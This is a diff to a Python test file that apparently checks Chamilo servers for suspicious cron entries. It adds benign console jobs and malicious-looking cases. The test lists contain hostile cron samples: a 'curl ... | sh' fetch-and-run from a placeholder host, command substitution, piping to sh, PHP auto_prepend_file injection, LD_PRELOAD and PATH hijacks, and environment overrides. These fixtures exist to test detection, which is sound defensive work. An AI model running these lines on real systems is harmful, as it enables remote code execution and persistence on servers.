@@ -64,6 +64,8 @@ def theirs(path, text="x"):
         "17 4 * * 0\tphp -d memory_limit=-1 {root}/bin/console app:file-integrity:scan >> {root}/var/log/scan.log 2>&1",
         "*/10 * * * * cd {root} && php bin/console app:send-scheduled-announcements --no-interaction",
         "@hourly php {root}/bin/console cache:pool:prune",
+        "@hourly php {root}/bin/console app:process-mail -e prod --no-interaction --exclude=a",
+        "@hourly php {root}/bin/console app:process-mail -eprod -vv --env prod",
     ],
 )
 def test_cron_lines_that_chamilo_documents_are_no_signs(host, line):
@@ -80,6 +82,12 @@ def test_cron_lines_that_chamilo_documents_are_no_signs(host, line):
         "* * * * * php {root}/bin/console app:x; curl -s http://x.test | sh",
         "* * * * * php {root}/bin/console app:x $(id)",
         "* * * * * php {root}/bin/console app:x | sh",
+        "* * * * * php {root}/bin/console app:x --env=evil",
+        "* * * * * php {root}/bin/console app:x --env evil",
+        "* * * * * php {root}/bin/console app:x --env=prod --env=prod2",
+        "* * * * * php {root}/bin/console app:x -e evil",
+        "* * * * * php {root}/bin/console app:x -eevil",
+        "* * * * * php {root}/bin/console app:x -ne dev >/dev/null",
         "* * * * * php {root}/bin/console app:x & /srv/x",
         "* * * * * php -d auto_prepend_file=/srv/x {root}/bin/console app:x",
         "* * * * * php -r 'x();' {root}/bin/console app:x",
@@ -108,6 +116,8 @@ def test_a_cron_line_that_merely_contains_the_console(host, line):
     "line",
     [
         "SHELL=/srv/x",
+        "APP_ENV=evil",
+        "APP_CACHE_DIR=/srv",
         "PATH=/srv/x:/usr/bin",
         "PATH=/usr/bin:/tmp",
         "LD_PRELOAD=/srv/x.so",
